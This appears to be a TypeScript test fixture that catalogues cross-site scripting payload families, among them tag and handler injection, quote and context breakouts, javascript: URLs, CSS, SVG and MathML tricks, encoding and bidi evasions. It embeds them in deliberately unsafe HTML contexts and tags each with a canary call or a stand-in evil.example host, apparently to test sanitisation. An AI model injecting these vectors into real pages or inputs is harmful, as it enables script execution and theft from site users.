/**
 * Text that tries to be code. Each family is one way in; `in` names the mistake that it needs, as a page of `unsafePage` makes it. A
 * payload always says where it came from: it calls __hit with the id of its field, or asks a host that is called like it.
 */

/** Ids hold small letters, digits, dots and dashes, so that they fit in any quotes, in a regular expression and as the name of a host. */
export type Payload = (id: string) => string;

/** An address that nothing of a registry may ask for. */
export const foreign = (id: string): string => `https://${id}.evil.example/`;

const hit = (id: string): string => `__hit('${id}')`;
/** Without quotes of any kind. */
const bareHit = (id: string): string => `__hit(/${id}/.source)`;
const image = (id: string): string => `<img src=x onerror=${bareHit(id)}>`;

interface Family {
  in: keyof typeof mistakes;
  make: Payload;
}

const mistakes = {
  element: (text: string) => `<p>${text}</p><p>That's all.</p>`,
  title: (text: string) => `<textarea>${text}</textarea>`,
  double: (text: string) => `<p title="${text}">x</p>`,
  single: (text: string) => `<p title='${text}'>x</p>`,
  backtick: (text: string) => `<p title=\`${text}\`>x</p>`,
  unquoted: (text: string) => `<p title=${text}>x</p>`,
  address: (text: string) => `<a href="${text.replaceAll('"', "&quot;")}">x</a>`,
  comment: (text: string) => `<!-- ${text} -->`,
  style: (text: string) => `<style>p { color: ${text} }</style><p>x</p>`,
  data: (text: string) => `<script type="application/ld+json">{"name": "${text}"}</script>`,
  doubleString: (text: string) => `<script>const text = "${text.replaceAll("\n", " ")}";</script>`,
  singleString: (text: string) => `<script>const text = '${text.replaceAll("\n", " ")}';</script>`,
  templateString: (text: string) => `<script>const text = \`${text}\`;</script>`,
  lineComment: (text: string) => `<script>// ${text.replaceAll("\n", " ")}\n</script>`,
  decodedTwice: (text: string) =>
    `<p id="text">${text}</p><script>{ const p = document.getElementById("text"); p.innerHTML = p.textContent; }</script>`,
  normalised: (text: string) =>
    `<p id="text">${text}</p><script>{ const p = document.getElementById("text"); p.innerHTML = decodeURIComponent(p.textContent).normalize("NFKC"); }</script>`,
} as const satisfies Record<string, (text: string) => string>;

export const families: Readonly<Record<string, Family>> = {
  script: {
    in: "element",
    make: (id) =>
      `<script>${hit(id)}</script><script src=${foreign(id)}></script><ScRiPt/x>${hit(id)}</sCrIpT >`,
  },
  "picture-handler": {
    in: "element",
    make: (id) =>
      `<img src=x onerror="${hit(id)}"><IMG/SRC="${foreign(id)}"/onload="${hit(id)}"><image src=x onerror=${bareHit(id)}>`,
  },
  "double-quote": {
    in: "double",
    make: (id) => `" autofocus tabindex=1 onfocus="${hit(id)}" x="">${image(id)}`,
  },
  "single-quote": {
    in: "single",
    make: (id) => `' autofocus tabindex=1 onfocus=${bareHit(id)} x=''>${image(id)}`,
  },
  backtick: {
    in: "backtick",
    make: (id) => `\` autofocus tabindex=1 onfocus=${bareHit(id)} \`>${image(id)}`,
  },
  unquoted: {
    in: "unquoted",
    make: (id) =>
      `x autofocus tabindex=1 onfocus=${bareHit(id)} style=animation-name:x onanimationstart=${bareHit(id)}`,
  },
  javascript: { in: "address", make: (id) => `javascript:${hit(id)}//` },
  "javascript-disguised": { in: "address", make: (id) => ` \u0001JaVa\tScRiPt\n:${hit(id)}//"'>` },
  "data-address": {
    in: "element",
    make: (id) =>
      `data:text/html,<script>parent.${hit(id)}</script><iframe src="data:text/html,<img src=${foreign(id)}>"></iframe>vbscript:${hit(id)}`,
  },
  "end-of-text": {
    in: "title",
    make: (id) =>
      `</title></textarea></style></noscript></template></xmp></select></iframe></script>${image(id)}`,
  },
  "end-of-data": { in: "data", make: (id) => `"}</script><script>${hit(id)}</script><!--<script>` },
  "end-of-comment": { in: "comment", make: (id) => `--><!-->--!>]]>*/${image(id)}<!-- <![CDATA[ /*` },
  "end-of-style": {
    in: "style",
    make: (id) => `red;}</style><script>${hit(id)}</script><style>*{background:url(${foreign(id)})}`,
  },
  css: {
    in: "style",
    make: (id) =>
      `red; background: url(${foreign(id)}); width: expression(${bareHit(id)}); behavior: url(${foreign(id)}); -moz-binding: url(//${id}.evil.example/) } @import '${foreign(id)}'; * { background: url(//${id}.evil.example/)`,
  },
  svg: {
    in: "element",
    make: (id) =>
      `<svg onload=${bareHit(id)}><script>${hit(id)}</script><image href=${foreign(id)} /><set onbegin=${bareHit(id)} attributeName=x to=1 /><use href="${foreign(id)}#x"/></svg>`,
  },
  mathml: {
    in: "element",
    make: (id) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${bareHit(id)}&gt;"></table><annotation-xml encoding=text/html><img src=x onerror=${bareHit(id)}></annotation-xml></math>`,
  },
  template: {
    in: "element",
    make: (id) =>
      `{{constructor.constructor("${bareHit(id)}")()}}<%= ${bareHit(id)} %>#{${bareHit(id)}}<div><template shadowrootmode=open><img src=x onerror=${bareHit(id)}></template></div>`,
  },
  "meta-refresh": {
    in: "element",
    make: (id) =>
      `<meta http-equiv=refresh content="0;url=${foreign(id)}"><meta http-equiv=Set-Cookie content="x=${id}">`,
  },
  base: { in: "element", make: (id) => `<base href=${foreign(id)}/ target=_blank><img src=relative.png>` },
  frames: {
    in: "element",
    make: (id) =>
      `<iframe srcdoc="<script>parent.${hit(id)}</script>"></iframe><iframe src=${foreign(id)}></iframe><object data=${foreign(id)}></object><embed src=${foreign(id)}>`,
  },
  forms: {
    in: "element",
    make: (id) =>
      `<form action=${foreign(id)}><button formaction="javascript:${hit(id)}" popovertarget=x>x</button><input autofocus onfocus=${bareHit(id)} type=image src=${foreign(id)}></form>`,
  },
  links: {
    in: "element",
    make: (id) =>
      `<link rel=stylesheet href=${foreign(id)}><link rel=prefetch href=${foreign(id)}><link rel=icon href=${foreign(id)}><link rel=modulepreload href=${foreign(id)}><script type=speculationrules>{"prefetch":[{"urls":["${foreign(id)}"]}]}</script>`,
  },
  media: {
    in: "element",
    make: (id) =>
      `<video src=${foreign(id)} poster=${foreign(id)} onerror=${bareHit(id)}></video><audio src=x onerror=${bareHit(id)}></audio><details open ontoggle=${bareHit(id)}>x</details><marquee onstart=${bareHit(id)}>x</marquee><img srcset="${foreign(id)} 1x">`,
  },
  dangling: { in: "element", make: (id) => `<img src='${foreign(id)}?` },
  clobbering: {
    in: "element",
    make: (id) =>
      `<form id=find name=find><input id=query name=query></form><img name=getElementById><a id=cards name=cards href=${foreign(id)}>x</a><iframe name=location src=${foreign(id)}></iframe>`,
  },
  markdown: {
    in: "element",
    make: (id) =>
      `[a](javascript:${hit(id)}) [b](<java&#10;script:${hit(id)}>) ![c](${foreign(id)}) <javascript:${hit(id)}> [d][e]\n\n[e]: javascript:${hit(id)}\n\n\`\`\`"><img src=x onerror=${bareHit(id)}>\n\`\`\`\n`,
  },
  entities: {
    in: "decodedTwice",
    make: (id) =>
      `&lt;img src=x onerror=${bareHit(id)}&gt;&#60;img src=x onerror=${bareHit(id)}&#x3E;&amp;lt;img&amp;gt;&quot;&apos;&NewLine;`,
  },
  encodings: {
    in: "normalised",
    make: (id) =>
      `\uff1cimg src=x onerror=${bareHit(id)}\uff1e%3Cimg src=x onerror=${bareHit(id)}%3E\\u003cimg src=x onerror=${bareHit(id)}\\u003e+ADw-img src=x onerror=${bareHit(id)}+AD4-`,
  },
  separators: { in: "lineComment", make: (id) => `\u2028${bareHit(id)}//\u2029${bareHit(id)}//\u0085` },
  direction: { in: "element", make: (id) => `\u202e\u2066gnp.${image(id)}\u2069\u202c\u200f\ufeff` },
  "single-string": { in: "singleString", make: (id) => `';${bareHit(id)}//` },
  "double-string": { in: "doubleString", make: (id) => `";${bareHit(id)}//` },
  "template-string": { in: "templateString", make: (id) => `\${${bareHit(id)}}\`;${bareHit(id)}//` },
};

export const familyNames = Object.keys(families);

/** One family in a page that makes the mistake it needs. `policy`: the site's own, or "" for none. */
export function unsafePage(family: string, policy: string): string {
  const { in: mistake, make } = families[family]!;
  return `<!doctype html><html lang="en"><head><meta charset="utf-8">${policy}<title>Unsafe</title></head><body>${mistakes[mistake](make(`unsafe.${family}`))}</body></html>`;
}

/** All families in one text, for what a registry has only once. */
export const everyFamily = (id: string): string =>
  familyNames.map((name) => families[name]!.make(`${id}.${name}`)).join(" ");
